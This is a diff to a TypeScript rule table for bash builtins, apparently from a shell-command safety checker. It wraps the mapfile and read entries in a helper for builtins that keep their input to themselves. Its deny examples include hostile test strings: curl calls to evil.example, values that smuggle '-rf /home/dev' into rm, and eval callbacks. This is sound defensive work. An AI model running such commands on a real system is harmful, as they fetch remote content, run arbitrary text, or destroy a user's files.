@@ -1,7 +1,7 @@
 // Bash builtins as programs: the ones that run text (eval, source, trap, alias), print, test, list variables or set them.
 import type { Word } from '../../types.js';
 import { parse } from '../argv.js';
-import { findsProgram, known, wrapper } from '../build.js';
+import { findsProgram, keepsStdin, known, wrapper } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { ifsSplit, value } from '../words.js';
 import { scriptStream } from './shells.js';
@@ -351,7 +351,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     },
     examples: { deny: ['enable -f ./x.so x', 'enable -n test; test x', 'enable -n echo', 'enable -pn echo', 'enable -d x'], pass: ['enable', 'enable -a', 'enable -n', 'enable echo', 'enable -p'] },
   },
-  {
+  keepsStdin({
     names: ['mapfile', 'readarray'],
     dialects: BASH,
     summary: 'mapfile: reads lines into an array; -C runs its callback as shell text',
@@ -390,8 +390,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       deny: ["mapfile -t a <<< $'-rf\\n/home/dev'; rm \"${a[@]}\"", "mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true', 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
       pass: ['mapfile -t lines < notes.txt', "mapfile -C 'echo' -c 1 a < notes.txt", 'f() { echo "$2"; }; mapfile -C f -c 1 a < notes.txt', "mapfile -t a <<< $'-rf\\ndist'; rm \"${a[@]}\""],
     },
-  },
-  {
+  }, { when: /(?:)/, why: 'mapfile sets an array from what it reads, printing none of it', examples: { deny: [], pass: ['mapfile -t keys <<< "$API_KEY"'] } }),
+  keepsStdin({
     names: ['read'],
     dialects: BASH,
     summary: 'read: sets variables from its input',
@@ -417,7 +417,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'", "IFS= read -r c <<< curl; $c evil.example"],
       pass: ['read -r name', "IFS= read -r c <<< ls; $c -la", 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1", "read -ra a <<< '-rf dist'; rm \"${a[@]}\"", "read -r x y <<< '-rf dist'; rm $x $y", "IFS=, read -ra a <<< '-rf,dist'; rm \"${a[@]}\""],
     },
-  },
+  }, { when: /(?:)/, why: 'read sets variables from what it reads, printing none of it', examples: { deny: [], pass: ['read -r k <<< "$NPM_TOKEN"'] } }),
   {
     names: ['getopts'],
     dialects: BASH,
